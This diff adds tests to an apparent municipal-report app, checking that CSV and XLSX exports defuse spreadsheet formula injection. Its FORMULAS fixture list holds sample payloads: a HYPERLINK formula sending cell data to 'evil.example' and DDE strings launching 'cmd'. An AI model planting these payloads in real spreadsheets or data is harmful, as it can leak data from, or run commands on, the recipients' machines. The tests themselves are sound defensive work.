@@ -52,3 +52,54 @@ def test_csv_is_sent_in_pieces_that_join_to_every_row(city, monkeypatch):
     assert len(pieces) > 3
     assert "".join(pieces) == "".join(whole)
     assert len(list(csv.reader(io.StringIO("".join(pieces))))) == 6
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def with_addresses(city, addresses: list[str]) -> None:
+    """Reports holding these addresses as stored (intake strips spaces; other sources
+    and older data may not)."""
+    for address in addresses:
+        report, _token = submit(city)
+        Report.objects.filter(pk=report.pk).update(address=address)
+
+
+def test_csv_cells_never_start_a_formula(city):
+    """OWASP CSV Injection (ASVS 4.0 V5.3.1): a citizen's address starting with
+    = + - @, a tab or a carriage return is exported with a leading apostrophe."""
+    with_addresses(city, FORMULAS)
+    text = "".join(exports.csv_stream(Report.objects.all())).lstrip("\ufeff")
+    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
+    column = header.index(str(exports.headers()[7]))
+
+    assert sorted(row[column] for row in rows) == sorted("'" + address for address in FORMULAS)
+
+
+def test_csv_keeps_ordinary_text_as_it_is(city):
+    submit(city, address="东街道一社区门口 =2号")
+    text = "".join(exports.csv_stream(Report.objects.all())).lstrip("\ufeff")
+    _header, row = list(csv.reader(io.StringIO(text)))
+
+    assert row[7] == "东街道一社区门口 =2号"
+
+
+def test_xlsx_cells_are_text_never_formulas(city):
+    """OWASP CSV Injection: in the workbook a formula-looking address stays text, and
+    characters XML cannot carry are dropped instead of failing the export."""
+    from openpyxl import load_workbook
+
+    with_addresses(city, [*FORMULAS, "东街\x01道"])
+    with exports.xlsx_file(Report.objects.all()) as handle:
+        sheet = load_workbook(handle).active
+        cells = [row[7] for row in sheet.iter_rows(min_row=2)]
+
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert sorted(cell.value for cell in cells) == sorted([*FORMULAS, "东街道"])
